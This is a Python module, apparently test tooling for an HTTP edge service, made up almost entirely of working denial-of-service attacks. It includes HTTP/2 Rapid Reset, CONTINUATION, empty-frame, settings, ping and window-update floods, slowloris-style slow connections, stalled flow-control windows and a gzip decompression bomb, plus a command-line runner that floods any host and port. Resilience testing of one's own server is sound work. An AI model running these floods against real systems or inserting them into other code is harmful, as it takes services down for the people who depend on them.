"""Attacks on the edge, byte by byte and frame by frame: what no client library would send.

Each is a function of the edge's address and of how long it goes on (seconds); it returns what it did, as a number of
whatever it repeats. They end by themselves, and also when the edge closes the door on them, which most of them ask for.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import struct
import sys
import time
from typing import TYPE_CHECKING, Self

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

Address = tuple[str, int]
PATH = "/v1/contacts/con_1"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_BATCH = 200


class Connection:
    """A TCP connection on which bytes are said as they are; `open` until the other side or the network ends it."""

    def __init__(self, address: Address, timeout: float = 15, source: str = "") -> None:
        self.socket = socket.create_connection(address, timeout, (source, 0) if source else None)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.open = True

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> bool:
        """Send, unless it has ended; whether it is still open."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.open = False
        return self.open

    def read(self, seconds: float = 5) -> bytes:
        """What arrives within the time, up to the end of the connection or a pause after some bytes."""
        found, ends = b"", time.monotonic() + seconds
        while time.monotonic() < ends:
            self.socket.settimeout(0.3 if found else max(0.01, ends - time.monotonic()))
            try:
                part = self.socket.recv(65536)
            except TimeoutError:
                break
            except OSError:
                part = b""
            if not part:
                self.open = False
                break
            found += part
        return found

    def closes(self, seconds: float) -> bool:
        """Whether the other side ends it within the time."""
        ends = time.monotonic() + seconds
        while self.open and time.monotonic() < ends:
            self.read(max(0.01, ends - time.monotonic()))
        return not self.open


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def fields(authority: str = "edge", path: str = PATH, method: str = "GET") -> list[tuple[str, str]]:
    """The pseudo-headers of a request."""
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]


@contextlib.contextmanager
def speaking(address: Address) -> Iterator[Connection]:
    """A connection on which HTTP/2 has begun, without any library's care."""
    with Connection(address) as connection:
        connection.send(_PREFACE + frame(_SETTINGS, 0, 0))
        yield connection


def rapid_reset(address: Address, seconds: float) -> int:
    """CVE-2023-44487: requests that are taken back as soon as they are made."""
    made, ends = 0, time.monotonic() + seconds
    while time.monotonic() < ends:
        with speaking(address) as connection:
            encoder, stream, cancel = hpack.Encoder(), 1, struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
            encoder.encode(fields())
            block = encoder.encode(fields())
            while connection.open and time.monotonic() < ends and stream < 2**20:
                parts = []
                for _ in range(_BATCH):
                    # The first one teaches the other side the words that the others refer to.
                    said = block if stream > 1 else hpack.Encoder().encode(fields())
                    parts.append(frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, said))
                    parts.append(frame(_RESET, 0, stream, cancel))
                    stream += 2
                made += _BATCH if connection.send(b"".join(parts)) else 0
    return made


def taken_back(address: Address, seconds: float = 3, count: int = 1_000) -> bool:
    """Whether the other side ends a connection on which so many requests are taken back at once."""
    encoder, cancel = hpack.Encoder(), struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
    with speaking(address) as connection:
        for stream in range(1, 2 * count, 2):
            begun = frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, encoder.encode(fields()))
            if not connection.send(begun + frame(_RESET, 0, stream, cancel)):
                return True
        return connection.closes(seconds)


def continuation_flood(address: Address, seconds: float) -> int:
    """CVE-2024-27316 and its kin: a header block that never ends."""
    sent, ends = 0, time.monotonic() + seconds
    part = b"".join(b"\x00\x07x-%05d\x08aaaaaaaa" % number for number in range(800))
    endless = frame(_CONTINUATION, 0, 1, part)
    while time.monotonic() < ends:
        with speaking(address) as connection:
            connection.send(frame(_HEADERS, 0, 1, hpack.Encoder().encode(fields())))
            while time.monotonic() < ends and connection.send(endless):
                sent += 1
    return sent


def endless_headers(address: Address, size: int) -> bool:
    """Whether the other side gives up a request after so many bytes of a header block that has not ended."""
    part = b"".join(b"\x00\x07x-%05d\x08aaaaaaaa" % number for number in range(800))
    with speaking(address) as connection:
        connection.send(frame(_HEADERS, 0, 1, hpack.Encoder().encode(fields())))
        for _ in range(size // len(part)):
            connection.send(frame(_CONTINUATION, 0, 1, part))
        return resets(connection.read(2)) == 1 or not connection.open


def unfolding(size: int) -> list[tuple[str, str]]:
    """A request whose headers have so many bytes and take few of them on the way: one of them, said again and again."""
    return [*fields(), *[("x-a", "a" * 4000)] * (size // 4000)]


def settings_flood(address: Address, seconds: float) -> int:
    """Settings that each want an acknowledgement, none of which is read."""
    return _flood(address, seconds, frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def ping_flood(address: Address, seconds: float) -> int:
    """Pings that each want an answer, none of which is read."""
    return _flood(address, seconds, frame(_PING, 0, 0, b"12345678"))


def empty_frames(address: Address, seconds: float) -> int:
    """CVE-2019-9518: frames of a body that hold nothing and do not end it."""
    begin = frame(_HEADERS, _END_HEADERS, 1, hpack.Encoder().encode(fields(method="POST")))
    return _flood(address, seconds, frame(_DATA, 0, 1), begin)


def window_updates(address: Address, seconds: float) -> int:
    """Windows that are widened one byte at a time."""
    return _flood(address, seconds, frame(_WINDOW, 0, 0, struct.pack(">I", 1)))


def _flood(address: Address, seconds: float, one: bytes, begin: bytes = b"") -> int:
    sent, ends = 0, time.monotonic() + seconds
    while time.monotonic() < ends:
        with speaking(address) as connection:
            connection.send(begin)
            while time.monotonic() < ends and connection.send(one * _BATCH):
                sent += _BATCH
    return sent


def empty_continuations(address: Address, seconds: float) -> int:
    """A header block that goes on and on without a byte in it, so that no limit of its size is ever reached."""
    begin = frame(_HEADERS, 0, 1, hpack.Encoder().encode(fields()))
    return _flood(address, seconds, frame(_CONTINUATION, 0, 1), begin)


FLOODS = {
    "rapid-reset": rapid_reset,
    "endless-headers": continuation_flood,
    "empty-continuations": empty_continuations,
    "settings": settings_flood,
    "pings": ping_flood,
    "empty-frames": empty_frames,
    "window-updates": window_updates,
}


def stalled_window(address: Address, count: int, path: str, source: str = "", bearer: str = "") -> Connection:
    """Requests at once on a connection whose window is closed: what is large of the answers has nowhere to go."""
    connection = Connection(address, source=source)
    encoder, headers = hpack.Encoder(), [*fields(path=path), *([("authorization", bearer)] if bearer else [])]
    connection.send(_PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    flags, blocks = _END_HEADERS | _END_STREAM, (encoder.encode(headers) for _ in range(count))
    connection.send(b"".join(frame(_HEADERS, flags, 2 * number + 1, block) for number, block in enumerate(blocks)))
    return connection


def resets(data: bytes) -> int:
    """How many streams these frames end without an answer."""
    found = at = 0
    while at + 9 <= len(data):
        found += data[at + 3] == _RESET
        at += 9 + int.from_bytes(data[at : at + 3], "big")
    return found


def slow_readers(address: Address, count: int, path: str, source: str = "") -> list[Connection]:
    """Connections of HTTP/1.1 on which something large is asked for again and again, and nothing is read."""
    connections = [Connection(address, source=source) for _ in range(count)]
    for connection in connections:
        connection.send(f"GET {path} HTTP/1.1\r\nhost: edge\r\n\r\n".encode() * 5)
    return connections


def slow_headers(address: Address, count: int) -> list[Connection]:
    """Connections on which a request has begun whose headers do not end."""
    connections = [Connection(address) for _ in range(count)]
    for connection in connections:
        connection.send(b"GET /v1/contacts HTTP/1.1\r\nhost: edge\r\nx-slow: a")
    return connections


def slow_bodies(address: Address, count: int, token: str) -> list[Connection]:
    """Connections on which a request has come whose body does not."""
    connections = [Connection(address) for _ in range(count)]
    head = (
        f"POST /v1/contacts HTTP/1.1\r\nhost: edge\r\nauthorization: Bearer {token}\r\ncontent-length: 1000\r\n\r\n{{"
    )
    for connection in connections:
        connection.send(head.encode())
    return connections


def idle(address: Address, count: int) -> list[Connection]:
    """Connections that say nothing."""
    return [Connection(address) for _ in range(count)]


def close(connections: Sequence[Connection]) -> None:
    """End them."""
    for connection in connections:
        connection.socket.close()


def raw(address: Address, request: bytes, seconds: float = 8) -> tuple[int, bytes]:
    """The status of the answer to a request said in bytes, and the answer; 0: the connection ended without one."""
    with Connection(address) as connection:
        connection.send(request)
        answer = connection.read(seconds)
    return (int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0), answer


def request(*lines: str, body: bytes = b"", first: str = f"GET {PATH} HTTP/1.1") -> bytes:
    """A request of HTTP/1.1 as it goes over the wire."""
    return "\r\n".join([first, *lines, "", ""]).encode("latin-1") + body


def bomb(megabytes: int) -> bytes:
    """So many megabytes of blanks in a JSON object, compressed to a thousandth."""
    return gzip.compress(b'{"givenName":"' + b" " * (megabytes << 20) + b'"}')


def one_of(address: Address, headers: Sequence[tuple[str, str]], seconds: float = 5) -> str:
    """How HTTP/2 answers a request with these headers: its status, or `reset`, `closed` or `nothing`."""
    # The library must send what it would refuse to send for anybody else.
    config = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
    speaker = h2.connection.H2Connection(config)
    with Connection(address) as connection:
        speaker.initiate_connection()
        connection.send(speaker.data_to_send())
        connection.socket.settimeout(seconds)
        with contextlib.suppress(h2.exceptions.ProtocolError, OSError):
            _hear(speaker, connection)
            speaker.send_headers(1, headers, end_stream=True)
            connection.send(speaker.data_to_send())
            while True:
                for event in _hear(speaker, connection):
                    if isinstance(event, h2.events.ResponseReceived):
                        return next(str(v) for n, v in _texts(event.headers) if n == ":status")
                    if isinstance(event, h2.events.StreamReset):
                        return "reset"
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return "closed"
                if not connection.open:
                    return "closed"
    return "nothing"


def _texts(headers: Sequence[tuple[bytes | str, bytes | str]]) -> Iterator[tuple[str, str]]:
    for name, value in headers:
        yield tuple(each.decode() if isinstance(each, bytes) else each for each in (name, value))  # type: ignore[misc]


def _hear(speaker: h2.connection.H2Connection, connection: Connection) -> list[h2.events.Event]:
    data = connection.socket.recv(65536)
    connection.open = bool(data)
    events = speaker.receive_data(data) if data else []
    connection.send(speaker.data_to_send())
    return events


def _main(name: str, host: str, port: str, seconds: str) -> None:
    """Flood from a process of its own, which takes no time from whoever watches."""
    sys.stdout.write(str(FLOODS[name]((host, int(port)), float(seconds))))


if __name__ == "__main__":
    _main(*sys.argv[1:])
